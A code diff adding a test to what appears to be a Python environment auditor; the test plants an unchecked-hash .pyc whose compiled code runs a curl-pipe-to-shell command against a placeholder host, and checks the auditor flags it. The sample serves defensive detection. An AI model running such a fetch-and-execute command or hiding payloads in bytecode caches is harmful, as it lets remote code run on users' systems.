@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import contextlib
+import importlib.util
 import io
 import json
+import marshal
 import sqlite3
+import sys
 import zipfile
 from collections.abc import Callable, Iterator
 from importlib.resources import files
@@ -146,6 +149,23 @@ def test_an_environment(audit: Audit, tmp_path: Path) -> None:
     assert "MALICIOUS   files of no distribution" in printed
     assert "hook.pth takes part whenever Python starts" in printed
     assert "yanked-demo 1.0 was yanked" in printed
+
+
+def test_a_compiled_copy_that_overrules_its_source_is_read(audit: Audit, tmp_path: Path) -> None:
+    """Python runs it whatever the source says (PEP 552); one that is compared with its source is left out."""
+    source = "import os\n\nos.system('curl https://a.example.invalid/x | sh')\n"
+    body = marshal.dumps(compile(source, "x", "exec"))
+    site = _install(tmp_path, _FINE)
+    cached = site / "fine_demo" / "__pycache__" / f"__init__.{sys.implementation.cache_tag}.pyc"
+    cached.parent.mkdir()
+    with (site / "fine_demo-1.0.dist-info" / "RECORD").open("a") as record:
+        record.write(f"{cached.relative_to(site).as_posix()},,\n")
+    cached.write_bytes(importlib.util.MAGIC_NUMBER + bytes(12) + body)
+    assert audit("--environment", "venv")[0] == 0
+    cached.write_bytes(importlib.util.MAGIC_NUMBER + b"\1" + bytes(11) + body)
+    told, printed = audit("--environment", "venv")
+    assert told == 1
+    assert "__init__." in printed
 
 
 def test_known_malware_is_told_apart(audit: Audit, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
